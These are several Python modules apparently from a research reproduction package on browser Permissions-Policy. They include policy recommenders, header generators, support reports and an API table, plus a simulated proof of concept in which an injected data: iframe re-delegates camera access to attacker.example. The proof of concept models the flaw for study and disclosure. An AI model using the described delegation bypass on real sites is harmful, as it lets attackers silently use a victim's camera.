3. The ``data:`` document does not inherit the parent's declared policy —
   only the boolean outcome — so it may re-delegate ``camera`` via
   ``allow`` to *attacker.example*.
4. The attacker document can now call ``getUserMedia``; if the user granted
   camera to the victim site earlier, no prompt appears at all.

:class:`LocalSchemePoC` runs the scenario against the policy engine in both
modes (shipped behaviour vs expected behaviour) and reports the Table 11
rows, plus the CSP precondition check of Section 6.2.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.policy.csp import ContentSecurityPolicy, local_scheme_attack_possible
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame
from repro.policy.origin import Origin


@dataclass(frozen=True)
class PoCOutcome:
    """Result of one PoC evaluation (one Table 11 row)."""

    mode: str                       # "actual-specification" / "expected"
    local_document_has_camera: bool
    attacker_has_camera: bool

    @property
    def bypass_succeeded(self) -> bool:
        return self.attacker_has_camera


@dataclass
class LocalSchemePoC:
    """Parameterised local-scheme attack scenario."""

    victim_url: str = "https://victim.example"
    attacker_url: str = "https://attacker.example"
    header: str = "camera=(self)"
    feature: str = "camera"
    scheme: str = "data"
    csp: str | None = None

    def _frames(self) -> tuple[PolicyFrame, PolicyFrame, PolicyFrame]:
        victim = PolicyFrame.top(self.victim_url, header=self.header)
        local = victim.local_child(scheme=self.scheme)
        attacker = local.child(self.attacker_url, allow=self.feature)
        return victim, local, attacker

    def injection_possible(self) -> bool:
        """The Section 6.2 precondition: can an HTML injection plant the
        local-scheme iframe under the victim's CSP?"""
        policy = (ContentSecurityPolicy.parse(self.csp)
                  if self.csp is not None else None)
        return local_scheme_attack_possible(
            policy, self_origin=Origin.parse(self.victim_url),
            scheme=self.scheme)

    def run(self, *, buggy: bool) -> PoCOutcome:
        """Evaluate one behaviour mode."""
        engine = PermissionsPolicyEngine(local_scheme_bug=buggy)
        _victim, local, attacker = self._frames()
        return PoCOutcome(
            mode="actual-specification" if buggy else "expected",
            local_document_has_camera=engine.is_enabled(self.feature, local),
            attacker_has_camera=engine.is_enabled(self.feature, attacker),
        )

    def table11(self) -> dict[str, PoCOutcome]:
        """Both Table 11 rows."""
        return {
            "expected": self.run(buggy=False),
            "actual-specification": self.run(buggy=True),
        }

    def demonstrates_issue(self) -> bool:
        """True when the shipped behaviour leaks the permission while the
        expected behaviour does not — the reported specification bug."""
        rows = self.table11()
        return (rows["actual-specification"].bypass_succeeded
                and not rows["expected"].bypass_succeeded
                and self.injection_possible())

    def report(self) -> str:
        rows = self.table11()
        lines = [
            f"Local-scheme PoC ({self.scheme}: document inside "
            f"{self.victim_url} with '{self.header}')",
            f"  CSP precondition ({self.csp or 'no CSP'}): "
            f"{'injectable' if self.injection_possible() else 'blocked'}",
        ]
        for name, outcome in rows.items():
            lines.append(
                f"  {name:22s} local doc camera: "
                f"{'allowed' if outcome.local_document_has_camera else 'blocked'}"
                f" | {self.attacker_url} camera: "
                f"{'ALLOWED (bypass!)' if outcome.attacker_has_camera else 'blocked'}")
        return "\n".join(lines)
