"""Crawl-based least-privilege policy recommender (paper Section 6.3).

The paper's second tool crawls a developer's own site — optionally with
manual interaction — and suggests the tightest ``Permissions-Policy``
header and iframe ``allow`` delegations consistent with the functionality
it observed.  It also "highlights instances where the actual configuration
is broader than the ideal configuration".

This implementation drives the same crawler the measurement uses:

1. visit the site (optionally with interaction gates unlocked),
2. collect per-frame permission activity (dynamic + static),
3. derive the ideal header: ``self`` for permissions the top-level document
   uses, explicit origins for permissions embedded documents use, ``()``
   for every other supported permission,
4. derive per-iframe ``allow`` suggestions covering exactly the observed
   usage,
5. diff against the deployed configuration and report over-grants.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.usage import UsageAnalysis, static_matches
from repro.browser.page import Fetcher
from repro.crawler.crawler import CrawlConfig, Crawler
from repro.crawler.records import SiteVisit
from repro.policy.allow_attr import parse_allow_attribute
from repro.policy.allowlist import Allowlist
from repro.policy.header import (
    HeaderParseError,
    parse_permissions_policy_header,
    serialize_permissions_policy,
)
from repro.policy.origin import Origin, OriginParseError
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry
from repro.registry.support import SupportMatrix, default_support_matrix

#: Over-grant markers for deployed configuration the strict parser rejects.
#: Angle brackets keep them outside the permission-name grammar, so they
#: can never collide with a real feature.
UNPARSEABLE_HEADER = "<unparseable-header>"
UNPARSEABLE_ALLOW = "<unparseable-allow>"


@dataclass
class DelegationSuggestion:
    """Suggested ``allow`` attribute for one embedded document."""

    iframe_src: str
    observed_permissions: tuple[str, ...]
    suggested_allow: str
    current_allow: str | None
    over_granted: tuple[str, ...]


@dataclass
class PolicyRecommendation:
    """The recommender's full output for one site."""

    url: str
    observed_top_level: tuple[str, ...]
    observed_embedded: dict[str, tuple[str, ...]]
    suggested_header: str
    current_header: str | None
    header_over_grants: tuple[str, ...]
    delegation_suggestions: list[DelegationSuggestion] = field(
        default_factory=list)

    @property
    def is_over_permissioned(self) -> bool:
        return bool(self.header_over_grants) or any(
            s.over_granted for s in self.delegation_suggestions)


class PolicyRecommender:
    """Suggests least-privilege policies from observed behaviour."""

    def __init__(self, fetcher: Fetcher, *,
                 interact: bool = True,
                 matrix: SupportMatrix | None = None,
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._matrix = matrix if matrix is not None else default_support_matrix()
        gates = frozenset({"click", "navigation"}) if interact else frozenset()
        self._crawler = Crawler(fetcher, config=CrawlConfig(
            interact=interact, unlocked_gates=gates))

    def recommend(self, url: str) -> PolicyRecommendation:
        """Crawl ``url`` and derive the recommendation.

        Raises:
            ValueError: when the site cannot be visited at all.
        """
        visit = self._crawler.visit(url)
        if not visit.success:
            raise ValueError(f"could not visit {url}: {visit.failure}")
        return self.recommend_from_visit(visit)

    def recommend_from_visit(self, visit: SiteVisit) -> PolicyRecommendation:
        """Derive the recommendation from an existing crawl record."""
        activity = self._frame_activity(visit)
        top = visit.top_frame
        top_permissions = tuple(sorted(activity.get(top.frame_id, frozenset())))

        embedded: dict[str, tuple[str, ...]] = {}
        origin_by_frame: dict[int, str] = {}
        for frame in visit.embedded_frames():
            used = activity.get(frame.frame_id, frozenset())
            delegatable = tuple(sorted(
                p for p in used
                if (perm := self._registry.maybe(p)) is not None
                and perm.policy_controlled))
            if delegatable:
                embedded.setdefault(frame.origin, ())
                embedded[frame.origin] = tuple(sorted(
                    set(embedded[frame.origin]) | set(delegatable)))
            origin_by_frame[frame.frame_id] = frame.origin

        suggested_header = self._build_header(top.url, top_permissions,
                                               embedded)
        current_header = top.header("permissions-policy")
        over_grants = self._header_over_grants(
            current_header, top_permissions, embedded)

        recommendation = PolicyRecommendation(
            url=visit.final_url,
            observed_top_level=top_permissions,
            observed_embedded=embedded,
            suggested_header=suggested_header,
            current_header=current_header,
            header_over_grants=over_grants,
        )
        for frame in visit.embedded_frames():
            if frame.depth != 1 or frame.iframe_attributes is None:
                continue
            recommendation.delegation_suggestions.append(
                self._suggest_delegation(frame, activity))
        return recommendation

    # -- internals -----------------------------------------------------------------

    def _frame_activity(self, visit: SiteVisit) -> dict[int, frozenset[str]]:
        usage = UsageAnalysis([visit], registry=self._registry)
        return usage.frame_activity(visit)

    def _build_header(self, top_url: str, top_permissions: tuple[str, ...],
                      embedded: dict[str, tuple[str, ...]]) -> str:
        directives: dict[str, Allowlist] = {}
        origins_per_permission: dict[str, list[Origin]] = {}
        for origin_text, permissions in embedded.items():
            try:
                origin = Origin.parse(origin_text)
            except OriginParseError:
                continue
            if origin.opaque:
                continue
            for permission in permissions:
                origins_per_permission.setdefault(permission, []).append(origin)
        for permission, origins in origins_per_permission.items():
            # `self` must accompany origins (W3C issue #480).
            directives[permission] = Allowlist.of(*origins, self_=True)
        for permission in top_permissions:
            perm = self._registry.maybe(permission)
            if perm is None or not perm.policy_controlled:
                continue
            if permission not in directives:
                directives[permission] = Allowlist.self_only()
        for perm in self._matrix.chromium_supported_permissions():
            directives.setdefault(perm.name, Allowlist.nobody())
        header = serialize_permissions_policy(directives)
        parse_permissions_policy_header(header)
        return header

    def _header_over_grants(self, current: str | None,
                            top_permissions: tuple[str, ...],
                            embedded: dict[str, tuple[str, ...]]
                            ) -> tuple[str, ...]:
        """Permissions the deployed header leaves broader than needed.

        A header the strict parser rejects is one the browser drops
        *wholesale* — every supported permission reverts to its default
        allowlist, which is strictly broader than the least-privilege
        ideal.  That is itself an over-grant: the diff falls back to the
        lenient parser for whatever it can salvage and adds the
        :data:`UNPARSEABLE_HEADER` marker instead of crashing (or, worse,
        silently reporting the site as tight).
        """
        if current is None:
            return ()
        over: set[str] = set()
        try:
            parsed = parse_permissions_policy_header(current)
        except (HeaderParseError, OriginParseError):
            parsed = parse_permissions_policy_header(current, mode="lenient")
            over.add(UNPARSEABLE_HEADER)
        needed = set(top_permissions)
        for permissions in embedded.values():
            needed.update(permissions)
        over.update(
            feature for feature, allowlist in parsed.directives.items()
            if feature not in needed and not allowlist.is_empty)
        return tuple(sorted(over))

    def _suggest_delegation(self, frame, activity) -> DelegationSuggestion:
        used = tuple(sorted(
            p for p in activity.get(frame.frame_id, frozenset())
            if (perm := self._registry.maybe(p)) is not None
            and perm.policy_controlled))
        current = (frame.iframe_attributes or {}).get("allow")
        # Suggest the default src directive per used permission: tightest
        # form that survives widget redirects only to the declared origin.
        suggested = "; ".join(used)
        over: tuple[str, ...] = ()
        if current:
            # Hostile `allow` text must not crash the recommendation: fall
            # back to the lenient parser and flag the attribute itself as
            # an over-grant (the browser's interpretation of text we can't
            # strictly parse is not something to vouch for).
            markers: set[str] = set()
            try:
                parsed_allow = parse_allow_attribute(current)
            except Exception:
                parsed_allow = parse_allow_attribute(current, mode="lenient")
                markers.add(UNPARSEABLE_ALLOW)
            over = tuple(sorted(set(
                f for f in parsed_allow.delegated_features
                if f not in used
                and (perm := self._registry.maybe(f)) is not None
                and perm.instrumented) | markers))
        return DelegationSuggestion(
            iframe_src=(frame.iframe_attributes or {}).get("src", frame.url),
            observed_permissions=used,
            suggested_allow=suggested,
            current_allow=current,
            over_granted=over,
        )
