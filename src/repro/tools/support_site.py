"""Permission-support matrix report (the Figure 3 site).

The paper's site lists, for every known permission: which browsers support
it, whether it is policy-controlled and powerful, its default allowlist,
and how support changed across versions.  This module renders the same
views from :class:`~repro.registry.support.SupportMatrix` as plain text and
JSON-serialisable structures, suitable for the CLI and for regenerating the
figure's content.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.report import render_table
from repro.registry.browsers import ALL_BROWSERS, Browser
from repro.registry.features import Permission
from repro.registry.support import SupportMatrix, default_support_matrix


@dataclass
class SupportSiteReport:
    """Builds the Figure 3 views."""

    matrix: SupportMatrix = field(default_factory=default_support_matrix)

    def rows(self) -> list[dict]:
        """One record per permission — the site's main table."""
        out = []
        for permission, support in self.matrix.matrix():
            out.append({
                "permission": permission.name,
                "policy_controlled": permission.policy_controlled,
                "powerful": permission.powerful,
                "default_allowlist": (permission.default_allowlist.value
                                      if permission.default_allowlist
                                      else None),
                "spec": permission.spec,
                "deprecated": permission.deprecated,
                "support": support,
            })
        return out

    def render(self) -> str:
        """Monospace rendering of the support matrix."""
        def mark(flag: bool) -> str:
            return "yes" if flag else "no"

        rows = []
        for record in self.rows():
            rows.append((
                record["permission"],
                mark(record["policy_controlled"]),
                mark(record["powerful"]),
                record["default_allowlist"] or "-",
                *(mark(record["support"][browser.name])
                  for browser in ALL_BROWSERS),
            ))
        headers = ("permission", "policy", "powerful", "default",
                   *(browser.name for browser in ALL_BROWSERS))
        return render_table(headers, rows,
                            title="Permission support across browsers")

    def history_report(self, permission: str, browser: Browser) -> str:
        """The per-version change view for one permission and browser."""
        changes = self.matrix.changes(permission, browser)
        rows = [(str(release), status.value) for release, status in changes]
        return render_table(("release", "status"), rows,
                            title=f"{permission} on {browser.name}")

    def chromium_only_permissions(self) -> list[Permission]:
        """Permissions only today's Chromium supports — the compatibility
        caveat the site surfaces prominently."""
        out = []
        for permission, support in self.matrix.matrix():
            if support["Chromium"] and not support["Firefox"] \
                    and not support["Safari"]:
                out.append(permission)
        return out

    def summary_counts(self) -> dict[str, int]:
        records = self.rows()
        return {
            "permissions": len(records),
            "policy_controlled": sum(1 for r in records
                                     if r["policy_controlled"]),
            "powerful": sum(1 for r in records if r["powerful"]),
            "chromium_only": len(self.chromium_only_permissions()),
            "universally_supported": sum(
                1 for r in records if all(r["support"].values())),
        }
