"""``Permissions-Policy`` header generator (the Figure 4 tool).

Generates headers from the *currently supported* permission list so the
output never goes stale — the gap the paper identifies in other online
generators (Section 6.3).  Presets match the site's options:

* **disable all** — every supported policy-controlled permission set to
  ``()``;
* **disable powerful** — only the consent-gated permissions disabled (the
  paper's "more commonly" chosen preset);
* **custom** — caller-provided allowlist per permission.

Generated headers are round-tripped through the strict parser before being
returned, so the tool can never emit a header the browser would drop.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.policy.allowlist import Allowlist
from repro.policy.header import (
    parse_permissions_policy_header,
    serialize_permissions_policy,
)
from repro.policy.origin import Origin
from repro.registry.features import Permission, UnknownPermissionError
from repro.registry.support import SupportMatrix, default_support_matrix


class HeaderPreset(str, Enum):
    DISABLE_ALL = "disable-all"
    DISABLE_POWERFUL = "disable-powerful"


@dataclass
class HeaderGenerator:
    """Builds least-privilege ``Permissions-Policy`` headers."""

    matrix: SupportMatrix = field(default_factory=default_support_matrix)

    def _supported_permissions(self) -> tuple[Permission, ...]:
        return self.matrix.chromium_supported_permissions()

    def generate_preset(self, preset: HeaderPreset) -> str:
        """One of the site's predefined headers."""
        if preset is HeaderPreset.DISABLE_ALL:
            targets = self._supported_permissions()
        else:
            targets = tuple(p for p in self._supported_permissions()
                            if p.powerful)
        directives = {perm.name: Allowlist.nobody() for perm in targets}
        return self._finalize(directives)

    def generate_custom(
        self,
        *,
        disable: tuple[str, ...] = (),
        self_only: tuple[str, ...] = (),
        allow_origins: dict[str, tuple[str, ...]] | None = None,
        disable_rest: bool = True,
    ) -> str:
        """A custom header.

        Args:
            disable: Permissions to turn off entirely.
            self_only: Permissions restricted to the site's own context.
            allow_origins: Permission → external origins allowed (``self``
                is added automatically: origin-only allowlists are not
                permitted by the specification, W3C issue #480).
            disable_rest: Also disable every other supported permission —
                the least-privilege default compensating for the missing
                "deny all" directive the paper criticises (Section 6.2).

        Raises:
            UnknownPermissionError: for permissions the registry does not
                know.
            ValueError: when a permission appears in more than one of the
                ``disable`` / ``self_only`` / ``allow_origins`` buckets —
                the request is contradictory, and silently letting the
                last bucket win would hand out a header the caller did
                not ask for.
        """
        registry = self.matrix.registry
        buckets = {
            "disable": tuple(registry.get(name).name for name in disable),
            "self_only": tuple(registry.get(name).name
                               for name in self_only),
            "allow_origins": tuple(registry.get(name).name
                                   for name in (allow_origins or {})),
        }
        seen: dict[str, str] = {}
        for bucket, names in buckets.items():
            for name in names:
                if name in seen and seen[name] != bucket:
                    raise ValueError(
                        f"permission {name!r} appears in both "
                        f"{seen[name]!r} and {bucket!r}; each permission "
                        "may be listed in only one bucket")
                if name in seen:
                    raise ValueError(
                        f"permission {name!r} is listed twice in "
                        f"{bucket!r}")
                seen[name] = bucket
        directives: dict[str, Allowlist] = {}
        for name in buckets["disable"]:
            directives[name] = Allowlist.nobody()
        for name in buckets["self_only"]:
            directives[name] = Allowlist.self_only()
        for name, origins in (allow_origins or {}).items():
            parsed = tuple(Origin.parse(origin) for origin in origins)
            directives[registry.get(name).name] = Allowlist.of(
                *parsed, self_=True)
        if disable_rest:
            for perm in self._supported_permissions():
                directives.setdefault(perm.name, Allowlist.nobody())
        return self._finalize(directives)

    @staticmethod
    def _finalize(directives: dict[str, Allowlist]) -> str:
        header = serialize_permissions_policy(directives)
        # Self-check: the generator must never hand out a header the
        # browser's strict structured-field parser would drop.
        parse_permissions_policy_header(header)
        return header

    def coverage(self, header: str) -> dict[str, bool]:
        """Which supported permissions a given header covers — the paper
        found *no* website covering all of them (Section 4.3.1)."""
        parsed = parse_permissions_policy_header(header)
        return {perm.name: perm.name in parsed.directives
                for perm in self._supported_permissions()}

    def is_complete(self, header: str) -> bool:
        return all(self.coverage(header).values())
