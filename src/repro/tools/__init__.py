"""Developer-facing tools (paper Section 6.3).

* :mod:`repro.tools.support_site` — the caniuse-style permission-support
  matrix report (Figure 3);
* :mod:`repro.tools.header_generator` — the ``Permissions-Policy`` header
  generator with disable-all / disable-powerful presets (Figure 4);
* :mod:`repro.tools.recommender` — the crawl-based least-privilege
  recommender that suggests a header and ``allow`` delegations from
  observed usage;
* :mod:`repro.tools.poc` — the local-scheme specification-issue proof of
  concept (Table 11).
"""

from repro.tools.header_generator import HeaderGenerator, HeaderPreset
from repro.tools.poc import LocalSchemePoC, PoCOutcome
from repro.tools.recommender import PolicyRecommendation, PolicyRecommender
from repro.tools.site_generator import SiteGenerator
from repro.tools.support_site import SupportSiteReport
from repro.tools.widget_report import WidgetDossier, WidgetReporter

__all__ = [
    "HeaderGenerator",
    "HeaderPreset",
    "LocalSchemePoC",
    "PoCOutcome",
    "PolicyRecommendation",
    "PolicyRecommender",
    "SiteGenerator",
    "SupportSiteReport",
    "WidgetDossier",
    "WidgetReporter",
]
