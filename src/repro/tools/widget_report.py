"""Widget dossier: the Section 5.2 case study, for any embedded site.

The paper's LiveChat case study combines every analysis angle on one
widget: how often it is embedded, how consistently it is delegated, which
template it uses, what it actually does, what it never uses, and what an
attacker who compromised it would gain.  :class:`WidgetReporter` produces
the same dossier for any embedded site observed in a crawl.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable

from repro.analysis.categories import (
    DelegationPurpose,
    classify_delegation_signature,
)
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.crawler.records import SiteVisit
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry


@dataclass
class WidgetDossier:
    """Everything one crawl knows about one embedded widget."""

    site: str
    occurrences: int
    embedding_websites: int
    delegation_rate: float
    #: Distinct allow templates seen, with occurrence counts.
    templates: list[tuple[str, int]]
    purpose: DelegationPurpose
    observed_activity: tuple[str, ...]
    unused_delegations: tuple[str, ...]
    #: Of the unused delegations, the consent-gated ones — what a
    #: compromise would actually hand an attacker silently wherever the
    #: user already granted them.
    hijackable_powerful: tuple[str, ...]
    overpermissioned_websites: int

    @property
    def is_over_permissioned(self) -> bool:
        return bool(self.unused_delegations)

    def render(self) -> str:
        lines = [
            f"Widget dossier: {self.site}",
            f"  embedded as an iframe:      {self.occurrences} occurrences "
            f"on {self.embedding_websites} websites",
            f"  delegation rate:            {self.delegation_rate:.2%}",
            f"  inferred purpose:           {self.purpose.value}",
        ]
        for template, count in self.templates[:3]:
            lines.append(f"  template ({count}x): allow=\"{template}\"")
        lines.append("  observed activity:          "
                     + (", ".join(self.observed_activity) or "(none)"))
        lines.append("  unused delegations:         "
                     + (", ".join(self.unused_delegations) or "(none)"))
        if self.hijackable_powerful:
            lines.append(
                f"  SUPPLY-CHAIN RISK: a compromise gains "
                f"{', '.join(self.hijackable_powerful)} on "
                f"{self.overpermissioned_websites} websites — silently "
                "wherever users already granted them")
        return "\n".join(lines)


class WidgetReporter:
    """Builds widget dossiers from crawl records."""

    def __init__(self, visits: Iterable[SiteVisit], *,
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._visits = [visit for visit in visits if visit.success]
        self._overpermission = OverPermissionAnalysis(
            self._visits, registry=self._registry)

    def known_widgets(self, min_websites: int = 2) -> list[str]:
        """Embedded sites with delegation on at least ``min_websites``."""
        counts = self._overpermission._delegating_websites  # noqa: SLF001
        websites: Counter[str] = Counter()
        for (site, _permission), ranks in counts.items():
            websites[site] = max(websites[site], len(ranks))
        return [site for site, count in websites.most_common()
                if count >= min_websites]

    def dossier(self, site: str) -> WidgetDossier:
        """The full dossier for one embedded site."""
        profile = self._overpermission.profile_for(site)
        study = self._overpermission.case_study(site)
        templates = self._collect_templates(site)
        signature = [permission for template, count in templates
                     for permission in self._template_features(template)]
        unused = tuple(study["unused_delegations"])
        hijackable = tuple(
            permission for permission in unused
            if (perm := self._registry.maybe(permission)) is not None
            and perm.powerful)
        return WidgetDossier(
            site=site,
            occurrences=profile.occurrences,
            embedding_websites=study["websites_with_delegation"],
            delegation_rate=profile.delegation_rate,
            templates=templates,
            purpose=classify_delegation_signature(signature),
            observed_activity=tuple(study["observed_activity"]),
            unused_delegations=unused,
            hijackable_powerful=hijackable,
            overpermissioned_websites=study["overpermissioned_websites"],
        )

    def riskiest(self, top_n: int = 5) -> list[WidgetDossier]:
        """Dossiers for the widgets with the largest hijackable footprint."""
        dossiers = []
        for row in self._overpermission.unused_delegations():
            dossier = self.dossier(row.site)
            if dossier.hijackable_powerful:
                dossiers.append(dossier)
        dossiers.sort(key=lambda d: -d.overpermissioned_websites)
        return dossiers[:top_n]

    # -- internals -----------------------------------------------------------------

    def _collect_templates(self, site: str) -> list[tuple[str, int]]:
        counts: Counter[str] = Counter()
        for visit in self._visits:
            top_site = visit.top_frame.site
            for frame in visit.frames:
                if frame.is_top_level or frame.is_local:
                    continue
                if frame.site != site or frame.site == top_site:
                    continue
                allow = frame.allow_attribute
                if allow:
                    counts[allow] += 1
        return counts.most_common()

    @staticmethod
    def _template_features(template: str) -> list[str]:
        return [part.split()[0] for part in template.split(";")
                if part.strip()]
