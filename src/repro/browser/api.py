"""The permission-related Web API surface.

Appendix A.4 of the paper lists the instrumented permissions ("many of which
contain several instrumented APIs") plus the general-purpose APIs of the
Permissions, Permissions Policy and deprecated Feature Policy
specifications.  This module declares that surface: every instrumentable
API endpoint with the permissions it involves and how the analysis
categorises a call to it —

* ``INVOKE``: using a feature (e.g. ``getUserMedia``);
* ``STATUS_CHECK``: querying a specific permission's state
  (``navigator.permissions.query({name: 'camera'})``);
* ``GENERAL``: retrieving the overall permission machinery
  (``document.featurePolicy.allowedFeatures()`` …), counted by the paper as
  "General Permission APIs" — its single most observed category.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Iterator, Mapping

from repro.browser.scripts import ApiCall
from repro.registry.features import (
    DEFAULT_REGISTRY,
    FEATURE_POLICY_APIS,
    GENERAL_PERMISSION_APIS,
    PermissionRegistry,
)


class ApiKind(str, Enum):
    """How the analysis categorises a call (paper Section 4.1)."""

    INVOKE = "invoke"
    STATUS_CHECK = "status-check"
    GENERAL = "general"


@dataclass(frozen=True)
class ApiSpec:
    """One instrumentable API endpoint."""

    name: str
    kind: ApiKind
    permissions: tuple[str, ...] = ()
    #: Whether the checked permission is named by the call's first argument
    #: rather than fixed by the endpoint (``navigator.permissions.query``).
    permission_from_args: bool = False
    deprecated: bool = False

    def permissions_for(self, args: tuple[str, ...]) -> tuple[str, ...]:
        """Permissions a concrete call touches."""
        if self.permission_from_args and args:
            return (args[0],)
        return self.permissions


#: Mapping from each permission name to its primary invoke API, mirroring
#: Appendix A.4.  Permissions sharing an endpoint (camera/microphone via
#: getUserMedia) are modelled with argument-carrying calls instead.
_INVOKE_APIS: tuple[ApiSpec, ...] = (
    ApiSpec("navigator.mediaDevices.getUserMedia", ApiKind.INVOKE,
            permission_from_args=True),
    ApiSpec("navigator.mediaDevices.getDisplayMedia", ApiKind.INVOKE,
            ("display-capture",)),
    ApiSpec("navigator.geolocation.getCurrentPosition", ApiKind.INVOKE,
            ("geolocation",)),
    ApiSpec("navigator.geolocation.watchPosition", ApiKind.INVOKE,
            ("geolocation",)),
    ApiSpec("Notification.requestPermission", ApiKind.INVOKE,
            ("notifications",)),
    ApiSpec("pushManager.subscribe", ApiKind.INVOKE, ("push",)),
    ApiSpec("navigator.getBattery", ApiKind.INVOKE, ("battery",)),
    ApiSpec("document.browsingTopics", ApiKind.INVOKE, ("browsing-topics",)),
    ApiSpec("document.requestStorageAccess", ApiKind.INVOKE,
            ("storage-access",)),
    ApiSpec("document.requestStorageAccessFor", ApiKind.INVOKE,
            ("top-level-storage-access",)),
    ApiSpec("navigator.clipboard.readText", ApiKind.INVOKE,
            ("clipboard-read",)),
    ApiSpec("navigator.clipboard.writeText", ApiKind.INVOKE,
            ("clipboard-write",)),
    ApiSpec("navigator.credentials.get", ApiKind.INVOKE,
            permission_from_args=True),
    ApiSpec("navigator.credentials.create", ApiKind.INVOKE,
            ("publickey-credentials-create",)),
    ApiSpec("PaymentRequest.show", ApiKind.INVOKE, ("payment",)),
    ApiSpec("navigator.runAdAuction", ApiKind.INVOKE, ("run-ad-auction",)),
    ApiSpec("navigator.joinAdInterestGroup", ApiKind.INVOKE,
            ("join-ad-interest-group",)),
    ApiSpec("attributionReporting.register", ApiKind.INVOKE,
            ("attribution-reporting",)),
    ApiSpec("keyboard.getLayoutMap", ApiKind.INVOKE, ("keyboard-map",)),
    ApiSpec("keyboard.lock", ApiKind.INVOKE, ("keyboard-lock",)),
    ApiSpec("requestMediaKeySystemAccess", ApiKind.INVOKE,
            ("encrypted-media",)),
    ApiSpec("navigator.requestMIDIAccess", ApiKind.INVOKE, ("midi",)),
    ApiSpec("navigator.share", ApiKind.INVOKE, ("web-share",)),
    ApiSpec("navigator.wakeLock.request", ApiKind.INVOKE,
            ("screen-wake-lock",)),
    ApiSpec("navigator.usb.requestDevice", ApiKind.INVOKE, ("usb",)),
    ApiSpec("navigator.serial.requestPort", ApiKind.INVOKE, ("serial",)),
    ApiSpec("navigator.hid.requestDevice", ApiKind.INVOKE, ("hid",)),
    ApiSpec("navigator.bluetooth.requestDevice", ApiKind.INVOKE,
            ("bluetooth",)),
    ApiSpec("navigator.xr.requestSession", ApiKind.INVOKE,
            ("xr-spatial-tracking",)),
    ApiSpec("IdleDetector.start", ApiKind.INVOKE, ("idle-detection",)),
    ApiSpec("queryLocalFonts", ApiKind.INVOKE, ("local-fonts",)),
    ApiSpec("getScreenDetails", ApiKind.INVOKE, ("window-management",)),
    ApiSpec("navigator.getGamepads", ApiKind.INVOKE, ("gamepad",)),
    ApiSpec("Accelerometer.start", ApiKind.INVOKE, ("accelerometer",)),
    ApiSpec("Gyroscope.start", ApiKind.INVOKE, ("gyroscope",)),
    ApiSpec("Magnetometer.start", ApiKind.INVOKE, ("magnetometer",)),
    ApiSpec("AmbientLightSensor.start", ApiKind.INVOKE,
            ("ambient-light-sensor",)),
    ApiSpec("PressureObserver.observe", ApiKind.INVOKE, ("compute-pressure",)),
    ApiSpec("requestFullscreen", ApiKind.INVOKE, ("fullscreen",)),
    ApiSpec("requestPictureInPicture", ApiKind.INVOKE,
            ("picture-in-picture",)),
    ApiSpec("requestPointerLock", ApiKind.INVOKE, ("pointer-lock",)),
    ApiSpec("HTMLMediaElement.play", ApiKind.INVOKE, ("autoplay",)),
    ApiSpec("selectAudioOutput", ApiKind.INVOKE, ("speaker-selection",)),
    ApiSpec("document.hasStorageAccess", ApiKind.STATUS_CHECK,
            ("storage-access",)),
    ApiSpec("navigator.wakeLock.requestSystem", ApiKind.INVOKE,
            ("system-wake-lock",)),
    ApiSpec("TCPSocket.open", ApiKind.INVOKE, ("direct-sockets",)),
    ApiSpec("navigator.getVRDisplays", ApiKind.INVOKE, ("vr",)),
    ApiSpec("crossOriginIsolated", ApiKind.INVOKE, ("cross-origin-isolated",)),
    ApiSpec("hasPrivateToken", ApiKind.INVOKE,
            ("private-state-token-issuance",)),
    ApiSpec("hasRedemptionRecord", ApiKind.INVOKE,
            ("private-state-token-redemption",)),
    ApiSpec("document.interestCohort", ApiKind.INVOKE, ("interest-cohort",)),
)

_GENERAL_APIS: tuple[ApiSpec, ...] = tuple(
    ApiSpec(
        name,
        # `query` with arguments is a per-permission status check; the
        # policy-introspection calls are GENERAL.
        (ApiKind.STATUS_CHECK if name == "navigator.permissions.query"
         else ApiKind.GENERAL),
        permission_from_args=(name in (
            "navigator.permissions.query",
            "document.permissionsPolicy.allowsFeature",
            "document.featurePolicy.allowsFeature",
        )),
        deprecated="featurePolicy" in name,
    )
    for name in GENERAL_PERMISSION_APIS
)


class APISurface:
    """Name-indexed collection of instrumentable API endpoints."""

    def __init__(self, specs: tuple[ApiSpec, ...] | None = None,
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        all_specs = specs if specs is not None else _INVOKE_APIS + _GENERAL_APIS
        self._by_name: dict[str, ApiSpec] = {}
        for spec in all_specs:
            if spec.name in self._by_name:
                raise ValueError(f"duplicate API {spec.name!r}")
            self._by_name[spec.name] = spec
        self._names = tuple(self._by_name)
        self._observable: frozenset[str] | None = None

    def get(self, name: str) -> ApiSpec:
        try:
            return self._by_name[name]
        except KeyError:
            raise KeyError(f"unknown API endpoint: {name!r}") from None

    def maybe(self, name: str) -> ApiSpec | None:
        return self._by_name.get(name)

    def __contains__(self, name: object) -> bool:
        return name in self._by_name

    def __iter__(self) -> Iterator[ApiSpec]:
        return iter(self._by_name.values())

    def __len__(self) -> int:
        return len(self._by_name)

    @property
    def registry(self) -> PermissionRegistry:
        return self._registry

    def names(self) -> tuple[str, ...]:
        """All endpoint names, in declaration order."""
        return self._names

    def observable_endpoints(self) -> frozenset[str]:
        """Endpoints the paper's instrumentation can observe.

        Only the Appendix A.4 surface leaves records: non-INVOKE calls,
        argument-addressed calls, and invoke endpoints touching at least
        one *instrumented* permission.  The surface and its registry are
        immutable, so this is computed once and shared by every document.
        """
        observable = self._observable
        if observable is None:
            registry = self._registry
            observable = frozenset(
                spec.name for spec in self._by_name.values()
                if spec.kind is not ApiKind.INVOKE
                or spec.permission_from_args
                or any((perm := registry.maybe(p)) is not None
                       and perm.instrumented for p in spec.permissions)
            )
            self._observable = observable
        return observable

    def general_apis(self) -> tuple[ApiSpec, ...]:
        return tuple(s for s in self if s.kind is ApiKind.GENERAL
